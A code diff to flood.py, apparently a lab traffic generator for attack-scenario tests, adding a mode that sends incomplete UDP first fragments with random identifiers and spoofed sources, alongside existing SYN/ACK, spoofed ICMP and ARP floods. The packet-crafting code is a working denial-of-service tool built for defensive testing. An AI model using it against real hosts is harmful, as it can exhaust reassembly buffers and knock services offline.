@@ -5,6 +5,9 @@ attack scenarios (tests/lab/t_attack.sh).
     flood.py ack|syn DST DPORT SECONDS    TCP segments from sources drawn from
                                           198.18.0.0/15 (the benchmarking range:
                                           nothing in the lab answers for it)
+    flood.py frag DST DPORT SECONDS       first fragments (MF, offset 0) of UDP datagrams
+                                          to DST:DPORT that never complete: random
+                                          identifiers, sources from 198.18.0.0/15
     flood.py echoreply DST SRC SECONDS    ICMP echo replies "from" SRC (a real server,
                                           say), random identifier, sequence and payload
     flood.py arp DST IFACE SECONDS        broadcast ARP requests for DST on IFACE, each
@@ -36,6 +39,16 @@ def segment(src, dst, sport, dport, flags):
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, src, dst)
     ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
     return ip + tcp
+
+
+def first_fragment(src, dst, dport):
+    """The first 520 bytes of a 1,208-byte UDP datagram: MF set, the rest never sent."""
+    udp = struct.pack("!HHHH", 1024 + random.randrange(60000), dport, 1208, 0)
+    data = udp + random.randbytes(512)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), random.getrandbits(16),
+                     0x2000, 64, 17, 0, src, dst)
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    return ip + data
 
 
 def echo_reply(src, dst):
@@ -83,6 +96,11 @@ def main():
     if kind == "echoreply":
         src = socket.inet_aton(sys.argv[3])
         pkts = [echo_reply(src, d) for _ in range(4096)]
+    elif kind == "frag":
+        dport = int(sys.argv[3])
+        for i in range(4096):
+            src = struct.pack("!I", 0xC6120000 + random.randrange(1 << 17))
+            pkts.append(first_fragment(src, d, dport))
     else:
         flags = {"ack": 0x10, "syn": 0x02}[kind]
         dport = int(sys.argv[3])
